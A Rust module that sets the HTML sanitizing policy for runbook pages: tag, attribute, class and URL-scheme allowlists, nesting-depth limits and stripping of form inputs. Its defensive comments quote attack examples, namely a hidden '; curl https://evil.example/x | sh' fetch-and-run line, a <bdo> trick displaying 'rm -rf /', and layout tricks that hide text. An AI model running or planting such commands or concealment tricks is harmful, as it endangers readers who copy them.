//! The policy for HTML written in runbooks: what a pull request's author may put on a page
//! that is served from the site's own origin.
//!
//! One allowlist serves two purposes: [`clean`] applies it to a rendered page with
//! `ammonia` (an html5ever-based sanitizer), and [`audit`] tokenizes each piece of raw HTML
//! as written, with the same html5ever tokenizer, to say *where* in the Markdown something
//! will be removed, so an author learns of it at `file:line` instead of finding it gone.
//!
//! Only pages that hold raw HTML, or a link whose scheme is not allowed, are cleaned: the
//! rest is written by pulldown-cmark and pipebook, which escape every text and attribute,
//! and cleaning costs a full parse and serialisation of the page.

use std::collections::{HashMap, HashSet};
use std::sync::OnceLock;

/// Elements runbooks may use: ammonia's conservative defaults (text formatting, lists,
/// tables, `details`/`summary`, `kbd`, `sub`/`sup`, `img`, …) plus the disabled checkbox
/// of a task list. Everything else (`script`, `style`, `iframe`, `object`, `embed`,
/// `form`, `input` other than a checkbox, `meta`, `base`, `link`, SVG and MathML) goes,
/// and so does `bdo`: it is the markup for a bidirectional override (U+202D/U+202E, an
/// error as a character), `<bdo dir="rtl">/ fr- mr</bdo>` showing `rm -rf /` while the
/// text, and what Copy takes, reads otherwise (Trojan Source).
const TAGS: &[&str] = &[
    "a",
    "abbr",
    "acronym",
    "article",
    "aside",
    "b",
    "bdi",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "data",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hgroup",
    "hr",
    "i",
    "img",
    "input",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "picture",
    "pre",
    "q",
    "rp",
    "rt",
    "rtc",
    "ruby",
    "s",
    "samp",
    "small",
    "source",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
];

/// Elements removed together with their content, not only their tags.
const CLEAN_CONTENT_TAGS: &[&str] = &["script", "style"];

/// Attributes allowed on every element. `id` and `name` keep the anchors that forge
/// Markdown writes by hand (`<a name="step-3">`); `class` and `aria-label` carry what
/// pipebook itself adds (heading anchors, code tokens, footnotes, step links).
const GENERIC_ATTRIBUTES: &[&str] = &["lang", "title", "id", "class", "aria-label", "dir"];

/// Attributes allowed on one element.
const TAG_ATTRIBUTES: &[(&str, &[&str])] = &[
    ("a", &["href", "hreflang", "name"]),
    ("blockquote", &["cite"]),
    ("col", &["align", "span"]),
    ("colgroup", &["align", "span"]),
    ("del", &["cite", "datetime"]),
    ("details", &["open"]),
    ("div", &["align"]),
    ("h1", &["align"]),
    ("h2", &["align"]),
    ("h3", &["align"]),
    // Not `size`: browsers draw `<hr size="100000">` 100,000 pixels high, a blank page that
    // hides what follows it (the next step's "never on production") from a reader who
    // takes the page to have ended.
    ("hr", &["align", "width"]),
    ("img", &["align", "alt", "height", "src", "width"]),
    ("input", &["type", "checked", "disabled"]),
    ("ins", &["cite", "datetime"]),
    ("ol", &["start", "type", "reversed"]),
    ("p", &["align"]),
    ("q", &["cite"]),
    ("source", &["srcset", "media", "type"]),
    ("table", &["align", "summary"]),
    ("tbody", &["align"]),
    // `valign` and `width`, as GitHub and GitLab keep them (a README's side-by-side
    // columns); not `height`, for the reason of `hr`'s `size`.
    (
        "td",
        &["align", "colspan", "headers", "rowspan", "valign", "width"],
    ),
    ("tfoot", &["align"]),
    (
        "th",
        &[
            "align", "colspan", "headers", "rowspan", "scope", "valign", "width",
        ],
    ),
    ("thead", &["align"]),
    ("time", &["datetime"]),
    ("tr", &["align"]),
];

/// Attributes whose value is a URL, checked against [`URL_SCHEMES`].
const URL_ATTRIBUTES: &[&str] = &["href", "src", "xlink:href", "srcset"];

/// Schemes a link or image may use; any relative URL is allowed too. `javascript:`,
/// `data:`, `vbscript:` and `file:` are not among them.
const URL_SCHEMES: &[&str] = &[
    "http", "https", "mailto", "tel", "sms", "webcal", "ssh", "sftp", "ftp", "ftps", "irc", "ircs",
    "xmpp", "slack", "msteams", "zoommtg",
];

/// Classes pipebook writes in a runbook's text: heading and step links, code tokens and
/// shell sessions (`src/highlight`), diagrams, tables of contents, footnotes and GitHub
/// alerts. An author's other classes go: the theme's would let a runbook draw a block that
/// reads as the page's own (`oncall-now`, `preview-banner`) or hide text from sight only
/// (`visually-hidden`).
const CLASSES: &[&str] = &[
    "anchor",
    "hd",
    "bare",
    "step-link",
    "cmd",
    "diagram",
    "diagram-note",
    "image-left-out",
    "toc",
    "toc-inline",
    "footnote-reference",
    "footnote-definition",
    "footnote-definition-label",
    "footnote-backref",
    "footnotes",
    "task-list-item",
    "contains-task-list",
    "k",
    "s",
    "n",
    "o",
    "c",
    "f",
    "v",
    "t",
    "p",
    "gp",
    "go",
];

/// Whether element `name` (lowercase) is one runbooks may use (see [`TAGS`]).
pub fn tag_allowed(name: &str) -> bool {
    TAGS.contains(&name)
}

/// Whether cleaning keeps attribute `attr` of element `tag` (both lowercase), whatever
/// its value: an `<img>`'s `srcset` goes (only a `<source>` may have one).
pub fn attribute_kept(tag: &str, attr: &str) -> bool {
    let p = policy();
    p.tags.contains(tag) && p.attribute_allowed(tag, attr)
}

/// Whether a class written in a runbook may stay (see [`CLASSES`]); `language-*` of code
/// blocks, `markdown-alert*` and the levels of a table of contents (`l2`) too.
pub fn class_allowed(class: &str) -> bool {
    CLASSES.contains(&class)
        || class
            .strip_prefix("language-")
            .is_some_and(|l| !l.is_empty())
        || class.starts_with("markdown-alert")
        || class
            .strip_prefix('l')
            .is_some_and(|n| n.len() == 1 && n.bytes().all(|b| (b'1'..=b'6').contains(&b)))
}

/// Takes pipebook's own classes off an element of the author's, and returns the first.
///
/// Cleaning keeps the classes pipebook writes in a runbook's text (a table of contents, an
/// alert, a footnote, a step link), as it cannot tell pipebook's from the author's. On the
/// author's element they borrow the theme's look: `<div class="toc">` is the page's
/// contents column, which stays in sight as the reader scrolls, so a box "On call now:
/// Mallory, +1 555 0100" followed every reader down the page. GitHub keeps no class of a
/// README's HTML either. `language-*` stays: it only names a code block's language.
pub fn own_classes_out(tag: &mut html5ever::tokenizer::Tag) -> Option<String> {
    let at = tag.attrs.iter().position(|a| &*a.name.local == "class")?;
    let value = &tag.attrs[at].value;
    let is_own = |c: &str| class_allowed(c) && !c.starts_with("language-");
    let first = value
        .split_ascii_whitespace()
        .find(|c| is_own(c))?
        .to_string();
    let rest: Vec<&str> = value
        .split_ascii_whitespace()
        .filter(|c| !is_own(c))
        .collect();
    if rest.is_empty() {
        tag.attrs.remove(at);
    } else {
        tag.attrs[at].value = rest.join(" ").into();
    }
    Some(first)
}

/// The classes of `value` that may stay, in order.
fn allowed_classes(value: &str) -> String {
    value
        .split_ascii_whitespace()
        .filter(|c| class_allowed(c))
        .collect::<Vec<_>>()
        .join(" ")
}

/// Only a checkbox may be an `input` (task lists), and it may not be changed.
const FIXED_ATTRIBUTE_VALUES: &[(&str, &str, &str)] = &[("input", "type", "checkbox")];

struct Policy {
    tags: HashSet<&'static str>,
    clean_content: HashSet<&'static str>,
    generic: HashSet<&'static str>,
    by_tag: HashMap<&'static str, HashSet<&'static str>>,
}

fn policy() -> &'static Policy {
    static POLICY: OnceLock<Policy> = OnceLock::new();
    POLICY.get_or_init(|| Policy {
        tags: TAGS.iter().copied().collect(),
        clean_content: CLEAN_CONTENT_TAGS.iter().copied().collect(),
        generic: GENERIC_ATTRIBUTES.iter().copied().collect(),
        by_tag: TAG_ATTRIBUTES
            .iter()
            .map(|(tag, attrs)| (*tag, attrs.iter().copied().collect()))
            .collect(),
    })
}

impl Policy {
    fn attribute_allowed(&self, tag: &str, attr: &str) -> bool {
        self.generic.contains(attr) || self.by_tag.get(tag).is_some_and(|a| a.contains(attr))
    }
}

/// Whether a link or image address may stay: relative, or of an allowed scheme. Parsed as
/// browsers and ammonia parse it (`java\tscript:` is `javascript:`).
pub fn url_allowed(url: &str) -> bool {
    // Without a `:` there is no scheme, and the parser says `RelativeUrlWithoutBase` (it
    // looks for a scheme first, then, with no base, gives up): nearly every runbook link
    // (`../x.md#steps`) is answered here, not by a parse of 800 instructions.
    if memchr::memchr(b':', url.as_bytes()).is_none() {
        return true;
    }
    match url::Url::parse(url) {
        Ok(u) => URL_SCHEMES.contains(&u.scheme()),
        Err(url::ParseError::RelativeUrlWithoutBase) => true,
        Err(_) => false,
    }
}

/// `srcset` holds several URLs, each followed by an optional size.
fn srcset_allowed(value: &str) -> bool {
    value
        .split(',')
        .filter_map(|candidate| candidate.split_whitespace().next())
        .all(url_allowed)
}

fn value_allowed(tag: &str, attr: &str, value: &str) -> bool {
    if let Some((_, _, fixed)) = FIXED_ATTRIBUTE_VALUES
        .iter()
        .find(|(t, a, _)| *t == tag && *a == attr)
    {
        return value.eq_ignore_ascii_case(fixed);
    }
    match attr {
        "srcset" => srcset_allowed(value),
        a if URL_ATTRIBUTES.contains(&a) => url_allowed(value),
        "width" if matches!(tag, "td" | "th") => cell_width_allowed(value),
        _ => true,
    }
}

/// The widest cell kept, in pixels: wider than the page's text column at any screen
/// width, so that no README's side-by-side layout (`width="50%"`, `width="400"`) is lost.
const MAX_CELL_WIDTH: f64 = 1280.0;

/// Whether a cell's `width` is one a README lays out columns with: a percentage up to
/// 100, or pixels (`400`, `400px`) up to [`MAX_CELL_WIDTH`]. `width="100000"` made a table
/// 100,000 pixels wide: a reader scrolled sideways through blank space for the rest of
/// the row. Values browsers do not read as a width (`auto`) go too; they did nothing.
fn cell_width_allowed(value: &str) -> bool {
    let value = value.trim();
    let (number, limit) = match value.strip_suffix('%') {
        Some(n) => (n, 100.0),
        None => (value.strip_suffix("px").unwrap_or(value), MAX_CELL_WIDTH),
    };
    let plain = !number.is_empty()
        && number.bytes().all(|b| b.is_ascii_digit() || b == b'.')
        && number.bytes().any(|b| b.is_ascii_digit());
    plain && number.parse::<f64>().is_ok_and(|n| n <= limit)
}

/// The rendered page with everything outside the allowlist removed.
pub fn clean(html: &str) -> String {
    static CLEANER: OnceLock<ammonia::Builder<'static>> = OnceLock::new();
    let cleaned = CLEANER
        .get_or_init(|| {
            let p = policy();
            let mut builder = ammonia::Builder::empty();
            builder
                .tags(p.tags.clone())
                .clean_content_tags(p.clean_content.clone())
                .generic_attributes(p.generic.clone())
                .tag_attributes(p.by_tag.clone())
                .url_schemes(URL_SCHEMES.iter().copied().collect())
                .url_relative(ammonia::UrlRelative::PassThrough)
                .link_rel(Some("noopener noreferrer"))
                .strip_comments(true)
                .attribute_filter(|tag, attr, value| {
                    if attr == "class" {
                        let kept = allowed_classes(value);
                        return (!kept.is_empty()).then(|| kept.into());
                    }
                    value_allowed(tag, attr, value).then(|| value.into())
                });
            builder
        })
        .clean(html)
        .to_string();
    flatten_nesting(drop_form_inputs(cleaned))
}

/// Elements that draw their text smaller than their parent's (ammonia's defaults and the
/// theme's `code, pre { font-size: 0.92em }`), each kind with how deep they may nest.
/// Nested, they compound: twenty `<sub>` drew `; curl https://evil.example/x | sh` at
/// 0.35 px after `kubectl get pods` in a code block, 7 px wide, unseen; Copy took it, and
/// so does a selection. Deeper ones lose their tags (their text stays, at the size of the
/// last kept); the audit names each at its line.
const NESTING: &[(&[&str], usize)] = &[(&["sub", "sup", "small", "rt"], 2), (&["code", "pre"], 3)];

/// How deep the elements of [`NESTING`] are open, read in document order: which start
/// tags stay and which end tags close one that stayed.
#[derive(Default)]
pub(crate) struct Nesting {
    /// Per kind, how many are open and kept.
    depth: [usize; 2],
    /// Per element name (the index in its kind's list, by kind), whether each open one was
    /// kept: a stack per name, so that an end tag finds its start at once.
    open: [[Vec<bool>; 4]; 2],
}

impl Nesting {
    fn kind(name: &str) -> Option<(usize, usize)> {
        NESTING.iter().enumerate().find_map(|(k, (names, _))| {
            names
                .iter()
                .position(|n| n.eq_ignore_ascii_case(name))
                .map(|i| (k, i))
        })
    }

    /// Whether start tag `name` stays: `Err(limit)` when it is one too deep.
    pub(crate) fn open(&mut self, name: &str) -> Result<(), usize> {
        let Some((k, i)) = Self::kind(name) else {
            return Ok(());
        };
        let limit = NESTING[k].1;
        let kept = self.depth[k] < limit;
        self.depth[k] += usize::from(kept);
        self.open[k][i].push(kept);
        kept.then_some(()).ok_or(limit)
    }

    /// Whether end tag `name` stays (it closes one kept, or nothing of these).
    pub(crate) fn close(&mut self, name: &str) -> bool {
        let Some((k, i)) = Self::kind(name) else {
            return true;
        };
        let kept = self.open[k][i].pop().unwrap_or(true);
        if kept {
            self.depth[k] = self.depth[k].saturating_sub(1);
        }
        kept
    }
}

/// The cleaned page without the tags of [`NESTING`] nested too deep. Read as
/// [`drop_form_inputs`] reads it: every `<` opens a tag, which ends at the first `>`
/// outside double quotes.
fn flatten_nesting(cleaned: String) -> String {
    let mut nesting = Nesting::default();
    let mut out = String::new();
    let mut copied = 0;
    let mut from = 0;
    let bytes = cleaned.as_bytes();
    while let Some(i) = memchr::memchr(b'<', &bytes[from..]) {
        let at = from + i;
        let (closing, name_at) = match bytes.get(at + 1) {
            Some(b'/') => (true, at + 2),
            _ => (false, at + 1),
        };
        let name_len = bytes[name_at..]
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric())
            .count();
        let name = &cleaned[name_at..name_at + name_len];
        let mut quoted = false;
        let end = bytes[at..]
            .iter()
            .position(|&b| {
                quoted ^= b == b'"';
                b == b'>' && !quoted
            })
            .map_or(bytes.len(), |j| at + j + 1);
        let kept = if closing {
            nesting.close(name)
        } else {
            nesting.open(name).is_ok()
        };
        if !kept {
            out.push_str(&cleaned[copied..at]);
            copied = end;
        }
        from = end;
    }
    if copied == 0 {
        return cleaned;
    }
    out.push_str(&cleaned[copied..]);
    out
}

/// Whether an `<input>` with these attributes (name, value) is a task list's checkbox as
/// pipebook writes it: disabled, and nothing else but `checked`. Any other is a form
/// control a reader could type a password into, dropped whole (ammonia can only drop
/// its attributes, which leaves a text box).
fn is_task_checkbox<'a>(mut attrs: impl Iterator<Item = (&'a str, &'a str)>) -> bool {
    let (mut checkbox, mut disabled) = (false, false);
    let only_ours = attrs.all(|(name, value)| match name {
        "type" => {
            checkbox = value.eq_ignore_ascii_case("checkbox");
            checkbox
        }
        "disabled" => {
            disabled = true;
            true
        }
        "checked" => true,
        _ => false,
    });
    only_ours && checkbox && disabled
}

/// The cleaned page without its `<input>`s but task list checkboxes. The page is as
/// html5ever writes it: a `<` in text is `&lt;`, every attribute value is in double
/// quotes and holds no `"`, so a tag ends at the first `>` outside quotes.
fn drop_form_inputs(cleaned: String) -> String {
    if !cleaned.contains("<input") {
        return cleaned;
    }
    let mut out = String::with_capacity(cleaned.len());
    let mut rest = cleaned.as_str();
    while let Some(at) = rest.find("<input") {
        out.push_str(&rest[..at]);
        let tag = &rest[at..];
        let mut quoted = false;
        let end = tag
            .char_indices()
            .find(|&(_, c)| {
                if c == '"' {
                    quoted = !quoted;
                }
                c == '>' && !quoted
            })
            .map_or(tag.len(), |(i, _)| i + 1);
        let inner = tag[6..end].trim_end_matches(['>', '/']);
        if is_task_checkbox(attributes(inner)) {
            out.push_str(&tag[..end]);
        }
        rest = &tag[end..];
    }
    out.push_str(rest);
    out
}

/// `name="value"` pairs (or a lone `name`) as html5ever writes them.
fn attributes(mut s: &str) -> impl Iterator<Item = (&str, &str)> {
    std::iter::from_fn(move || {
        s = s.trim_start();
        if s.is_empty() {
            return None;
        }
        let name_end = s.find(['=', ' ']).unwrap_or(s.len());
        let name = &s[..name_end];
        s = &s[name_end..];
        let mut value = "";
        if let Some(after) = s.strip_prefix("=\"") {
            let close = after.find('"').unwrap_or(after.len());
            value = &after[..close];
            s = after.get(close + 1..).unwrap_or("");
        }
        Some((name, value))
    })
}

mod audit;
pub mod controls;
mod dropped;
pub(crate) use audit::text_state;
pub use audit::{audit, PageAudit, Removal, Review};
pub use dropped::{drawn, drops_content, ends_rp, hides_content, stripped};

#[cfg(test)]
mod tests;
